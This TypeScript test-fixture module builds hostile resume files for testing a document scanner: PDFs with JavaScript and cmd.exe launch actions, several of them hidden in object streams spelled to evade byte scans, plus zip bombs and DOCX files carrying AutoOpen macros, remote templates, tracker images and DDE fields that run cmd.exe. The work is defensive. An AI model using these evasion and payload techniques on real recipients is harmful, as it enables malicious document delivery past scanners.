import { strToU8, Zip, ZipDeflate, ZipPassThrough, zipSync, zlibSync } from 'fflate';

/**
 * Hostile resume files built in memory: PDFs that carry scripts (in plain sight, with names
 * disguised, or packed inside a compressed object stream where no byte scan sees them), DOCX
 * zip bombs (an honest one, and one whose headers lie about the size), and DOCX files that run
 * macros or fetch content from elsewhere when opened.
 */

const concat = (parts: Uint8Array[]) => {
  const out = new Uint8Array(parts.reduce((n, p) => n + p.length, 0));
  let at = 0;
  for (const p of parts) {
    out.set(p, at);
    at += p.length;
  }
  return out;
};
const latin1 = (s: string) => strToU8(s, true);
const esc = (s: string) => s.replace(/[\\()]/g, (c) => `\\${c}`);

/**
 * A PDF 1.5 with a cross-reference stream. `objects[id]` is each object's dictionary (id 1 the
 * catalog); ids in `packed` go into one FlateDecode object stream, invisible to a byte scan.
 * `streamDictionary` writes that stream's dictionary (by default `/Type /ObjStm` and `/Filter
 * /FlateDecode`, direct), so a test can spell it the ways a reader still follows.
 */
function writePdf(
  objects: string[],
  packed: number[] = [],
  streamDictionary: (n: number, first: number, length: number) => string = (n, first, length) =>
    `<< /Type /ObjStm /N ${n} /First ${first} /Filter /FlateDecode /Length ${length} >>`,
): Uint8Array<ArrayBuffer> {
  const parts: Uint8Array[] = [latin1('%PDF-1.5\n%\xe2\xe3\xcf\xd3\n')];
  const offsets: number[] = [];
  let length = parts[0]!.length;
  const emit = (id: number, head: string, stream?: Uint8Array) => {
    offsets[id] = length;
    const bytes = stream
      ? concat([latin1(`${id} 0 obj\n${head}\nstream\n`), stream, latin1('\nendstream\nendobj\n')])
      : latin1(`${id} 0 obj\n${head}\nendobj\n`);
    parts.push(bytes);
    length += bytes.length;
  };
  for (let id = 1; id < objects.length; id++) if (!packed.includes(id)) emit(id, objects[id]!);
  const streamId = objects.length;
  if (packed.length) {
    let header = '';
    let body = '';
    for (const id of packed) {
      header += `${id} ${body.length} `;
      body += `${objects[id]}\n`;
    }
    const data = zlibSync(latin1(header + body));
    emit(streamId, streamDictionary(packed.length, header.length, data.length), data);
  }
  const xrefId = streamId + 1;
  offsets[xrefId] = length;
  const rows = new Uint8Array(7 * (xrefId + 1));
  const row = (id: number, type: number, a: number, b: number) =>
    rows.set([type, a >>> 24, (a >>> 16) & 255, (a >>> 8) & 255, a & 255, b >>> 8, b & 255], id * 7);
  row(0, 0, 0, 0xffff);
  for (let id = 1; id <= xrefId; id++) {
    const slot = packed.indexOf(id);
    if (slot >= 0) row(id, 2, streamId, slot);
    else if (offsets[id] !== undefined) row(id, 1, offsets[id]!, 0);
  }
  emit(xrefId, `<< /Type /XRef /Size ${xrefId + 1} /W [1 4 2] /Root 1 0 R /Length ${rows.length} >>`, rows);
  parts.push(latin1(`startxref\n${offsets[xrefId]}\n%%EOF\n`));
  return concat(parts) as Uint8Array<ArrayBuffer>;
}

export const RESUME_TEXT = [
  'Asha Rao, backend engineer',
  'Skills: TypeScript, HTML/JS/CSS, PostgreSQL',
  'Experience: 2018 - Present, six years building APIs',
];

/** Where a PDF can carry a script or a launch action. */
export type PdfThreat =
  | 'none'
  | 'open-action'
  | 'document-names'
  | 'page-action'
  | 'link'
  | 'disguised-name'
  | 'launch'
  | 'packed'
  | 'packed-launch'
  | 'packed-link';

/** A one-page text PDF with `threat` in it (and a resume's text, which mentions "HTML/JS"). */
export function pdfWith(threat: PdfThreat, lines: readonly string[] = RESUME_TEXT): Uint8Array<ArrayBuffer> {
  const content = `BT /F1 11 Tf 14 TL 50 760 Td ${lines.map((l) => `(${esc(l)}) Tj T*`).join(' ')} ET`;
  const js = "<< /S /JavaScript /JS (app.alert\\('pwned'\\)) >>";
  const launchAction = '<< /S /Launch /F (cmd.exe) /NewWindow true >>';
  const catalog: Record<PdfThreat, string> = {
    none: '',
    'open-action': `/OpenAction ${js}`,
    'document-names': '/Names << /JavaScript << /Names [(x) 6 0 R] >> >>',
    'page-action': '',
    link: '',
    'disguised-name': '/OpenAction << /S /J#61vaScript /J#53 (app.alert\\(1\\)) >>',
    launch: `/OpenAction ${launchAction}`,
    packed: '/OpenAction 6 0 R',
    'packed-launch': '/OpenAction 6 0 R',
    'packed-link': '',
  };
  const page =
    threat === 'page-action'
      ? `/AA << /O ${js} >>`
      : threat === 'link' || threat === 'packed-link'
        ? '/Annots [7 0 R]'
        : '';
  const objects = [
    '',
    `<< /Type /Catalog /Pages 2 0 R ${catalog[threat]} >>`,
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Resources << /Font << /F1 4 0 R >> >> /Contents 5 0 R ${page} >>`,
    '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>',
    `<< /Length ${content.length} >>\nstream\n${content}\nendstream`,
    threat === 'document-names' || threat === 'packed' ? js : threat === 'packed-launch' ? launchAction : '<< >>',
    threat === 'link' || threat === 'packed-link'
      ? `<< /Type /Annot /Subtype /Link /Rect [50 700 300 720] /Border [0 0 0] /A ${js} >>`
      : '<< >>',
  ];
  // A stream cannot sit in an object stream; the catalog, a page, an action and an annotation can:
  // PDF.js reports neither a launch action nor a link's script, and no byte scan sees them packed.
  const packed: Partial<Record<PdfThreat, number[]>> = {
    packed: [1, 6],
    'packed-launch': [1, 6],
    'packed-link': [3, 7],
  };
  return writePdf(objects, packed[threat] ?? []);
}

/**
 * Ways to spell a compressed object stream's dictionary that PDF.js still reads as one (it needs
 * neither /Type nor a direct /Filter, and takes /F for /Filter) but a byte scan of the dictionary's
 * text did not: a comment inside `/Type`, a `( obj)` string that moves where the scan thought the
 * object began, `/Filter` as an indirect reference or an array of them, `/Type` as a reference, no
 * `/Type`, and `/F` for `/Filter`. Object 8 is the name /FlateDecode, object 9 the name /ObjStm.
 */
export const HIDDEN_OBJECT_STREAMS = {
  'comment-in-type': (n, first, length) =>
    `<< /Type %a comment\n/ObjStm /N ${n} /First ${first} /Filter /FlateDecode /Length ${length} >>`,
  'obj-in-a-string': (n, first, length) =>
    `<< /Type /ObjStm /N ${n} /First ${first} /Length ${length} /Title ( obj) /Filter /FlateDecode >>`,
  'filter-by-reference': (n, first, length) =>
    `<< /Type /ObjStm /N ${n} /First ${first} /Filter 8 0 R /Length ${length} >>`,
  'filter-array-of-references': (n, first, length) =>
    `<< /Type /ObjStm /N ${n} /First ${first} /Filter [8 0 R] /Length ${length} >>`,
  'type-by-reference': (n, first, length) =>
    `<< /Type 9 0 R /N ${n} /First ${first} /Filter /FlateDecode /Length ${length} >>`,
  'no-type': (n, first, length) => `<< /N ${n} /First ${first} /Filter /FlateDecode /Length ${length} >>`,
  'f-for-filter': (n, first, length) => `<< /Type /ObjStm /N ${n} /First ${first} /F /FlateDecode /Length ${length} >>`,
} satisfies Record<string, (n: number, first: number, length: number) => string>;
export type HiddenObjectStream = keyof typeof HIDDEN_OBJECT_STREAMS;

/**
 * The resume PDF with a Link annotation whose action is `/S /JavaScript`, packed (with the page
 * that lists it) in an object stream whose dictionary is spelled `how`.
 */
export function pdfWithHiddenLink(how: HiddenObjectStream, lines: readonly string[] = RESUME_TEXT) {
  const content = `BT /F1 11 Tf 14 TL 50 760 Td ${lines.map((l) => `(${esc(l)}) Tj T*`).join(' ')} ET`;
  const objects = [
    '',
    '<< /Type /Catalog /Pages 2 0 R >>',
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Resources << /Font << /F1 4 0 R >> >> /Contents 5 0 R /Annots [7 0 R] >>',
    '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>',
    `<< /Length ${content.length} >>\nstream\n${content}\nendstream`,
    '<< >>',
    "<< /Type /Annot /Subtype /Link /Rect [50 700 300 720] /Border [0 0 0] /A << /S /JavaScript /JS (app.alert\\('pwned'\\)) >> >>",
    '/FlateDecode',
    '/ObjStm',
  ];
  return writePdf(objects, [3, 7], HIDDEN_OBJECT_STREAMS[how]);
}

/**
 * A DOCX whose word/document.xml honestly unpacks to `unpacked` bytes of spaces: fflate deflates
 * one small buffer over and over, so the test never holds more than a megabyte of it.
 */
export function zipBomb(unpacked: number): Uint8Array<ArrayBuffer> {
  const parts: Uint8Array[] = [];
  const zip = new Zip((error, chunk) => {
    if (error) throw error;
    parts.push(chunk);
  });
  const types = new ZipPassThrough('[Content_Types].xml');
  zip.add(types);
  types.push(
    latin1('<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>'),
    true,
  );
  const document = new ZipDeflate('word/document.xml', { level: 9 });
  zip.add(document);
  const block = new Uint8Array(1024 * 1024).fill(0x20);
  for (let done = 0; done < unpacked; done += block.length)
    document.push(block.subarray(0, Math.min(block.length, unpacked - done)), done + block.length >= unpacked);
  zip.end();
  return concat(parts) as Uint8Array<ArrayBuffer>;
}

/** The same archive with its central directory claiming document.xml unpacks to `claimed` bytes. */
export function lyingAboutSize(docx: Uint8Array<ArrayBuffer>, claimed: number): Uint8Array<ArrayBuffer> {
  const out = docx.slice();
  const view = new DataView(out.buffer);
  let end = out.length - 22;
  while (view.getUint32(end, true) !== 0x06054b50) end--;
  for (let at = view.getUint32(end + 16, true); at < end;) {
    const nameLength = view.getUint16(at + 28, true);
    if (new TextDecoder().decode(out.subarray(at + 46, at + 46 + nameLength)) === 'word/document.xml')
      view.setUint32(at + 24, claimed, true);
    at += 46 + nameLength + view.getUint16(at + 30, true) + view.getUint16(at + 32, true);
  }
  return out;
}

/** A PDF whose object stream honestly unpacks to `unpacked` bytes (blank space before a harmless object). */
export function objectStreamBomb(unpacked: number): Uint8Array<ArrayBuffer> {
  const objects = [
    '',
    '<< /Type /Catalog /Pages 2 0 R >>',
    '<< /Type /Pages /Kids [] /Count 0 >>',
    `${' '.repeat(unpacked)}<< >>`,
  ];
  return writePdf(objects, [3]);
}

/** Where a DOCX can run a macro or fetch content from elsewhere when it is opened. */
export type DocxThreat =
  | 'none'
  | 'macros'
  | 'macros-renamed'
  | 'remote-template'
  | 'include-picture'
  | 'external-image'
  | 'dde-split'
  | 'dde-simple';

const W = 'http://schemas.openxmlformats.org/wordprocessingml/2006/main';
const R = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
const RELS = 'http://schemas.openxmlformats.org/package/2006/relationships';
const xmlEsc = (s: string) => s.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;');
const run = (text: string) => `<w:r><w:t xml:space="preserve">${xmlEsc(text)}</w:t></w:r>`;
const fieldCode = (...pieces: string[]) =>
  `<w:r><w:fldChar w:fldCharType="begin"/></w:r>${pieces
    .map((p) => `<w:r><w:instrText xml:space="preserve">${p}</w:instrText></w:r>`)
    .join('')}<w:r><w:fldChar w:fldCharType="separate"/></w:r>${run('x')}<w:r><w:fldChar w:fldCharType="end"/></w:r>`;
const relationships = (rels: string[]) =>
  `<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="${RELS}">${rels.join('')}</Relationships>`;

/**
 * A resume DOCX (the lines as paragraphs, with a hyperlink to a portfolio, which is an external
 * relationship every résumé may have) carrying `threat`: a VBA project (named as Word names it, or
 * moved and renamed in a .docx), a remote template, an INCLUDEPICTURE field, an image fetched from
 * a web address, or a DDE field (split across runs, as Word may save it, or as a simple field).
 */
export function docxWith(threat: DocxThreat, lines: readonly string[] = RESUME_TEXT): Uint8Array<ArrayBuffer> {
  const paragraphs = lines.map((l) => `<w:p>${run(l)}</w:p>`);
  paragraphs.push(`<w:p><w:hyperlink r:id="rLink">${run('Portfolio')}</w:hyperlink></w:p>`);
  const documentRels = [
    `<Relationship Id="rLink" Type="${R}/hyperlink" Target="https://asha.example/portfolio" TargetMode="External"/>`,
    `<Relationship Id="rSettings" Type="${R}/settings" Target="settings.xml"/>`,
  ];
  const files: Record<string, string> = {};
  let settings = `<w:settings xmlns:w="${W}" xmlns:r="${R}"><w:zoom w:percent="100"/></w:settings>`;
  let mainType = 'application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml';
  switch (threat) {
    case 'macros':
      mainType = 'application/vnd.ms-word.document.macroEnabled.main+xml';
      documentRels.push(
        `<Relationship Id="rVba" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="vbaProject.bin"/>`,
      );
      files['word/vbaProject.bin'] =
        '\u00d0\u00cf\u0011\u00e0 Attribute VB_Name = "ThisDocument"\nSub AutoOpen()\nShell "calc.exe"\nEnd Sub';
      break;
    case 'macros-renamed':
      documentRels.push(
        `<Relationship Id="rVba" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="media/VBAPROJECT.BIN"/>`,
      );
      files['word/media/VBAPROJECT.BIN'] = '\u00d0\u00cf\u0011\u00e0 Sub AutoOpen()';
      break;
    case 'remote-template':
      settings = `<w:settings xmlns:w="${W}" xmlns:r="${R}"><w:attachedTemplate r:id="rTpl"/></w:settings>`;
      files['word/_rels/settings.xml.rels'] = relationships([
        `<Relationship Id="rTpl" Type="${R}/attachedTemplate" Target="https://templates.example/cv.dotm" TargetMode="External"/>`,
      ]);
      break;
    case 'include-picture':
      paragraphs.push(`<w:p>${fieldCode('INCLUDE', 'PICTURE  "https://tracker.example/p.png" \\d')}</w:p>`);
      break;
    case 'external-image':
      documentRels.push(
        `<Relationship Id="rImg" Type="${R}/image" Target="https://tracker.example/p.png" TargetMode="External"/>`,
      );
      break;
    case 'dde-split':
      paragraphs.push(`<w:p>${fieldCode(' DDE', 'AUTO c:\\\\Windows\\\\System32\\\\cmd.exe "/k calc"')}</w:p>`);
      break;
    case 'dde-simple':
      paragraphs.push(
        `<w:p><w:fldSimple w:instr=" dde &quot;c:\\\\Windows\\\\System32\\\\cmd.exe&quot; &quot;/k calc&quot;">${run('x')}</w:fldSimple></w:p>`,
      );
      break;
    case 'none':
      break;
  }
  files['[Content_Types].xml'] =
    `<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/word/document.xml" ContentType="${mainType}"/></Types>`;
  files['_rels/.rels'] = relationships([
    `<Relationship Id="rId1" Type="${R}/officeDocument" Target="word/document.xml"/>`,
  ]);
  files['word/_rels/document.xml.rels'] = relationships(documentRels);
  files['word/settings.xml'] = settings;
  files['word/document.xml'] =
    `<?xml version="1.0" encoding="UTF-8" standalone="yes"?><w:document xmlns:w="${W}" xmlns:r="${R}"><w:body>${paragraphs.join('')}</w:body></w:document>`;
  return zipSync(
    Object.fromEntries(Object.entries(files).map(([name, text]) => [name, strToU8(text, name.endsWith('.bin'))])),
  ) as Uint8Array<ArrayBuffer>;
}
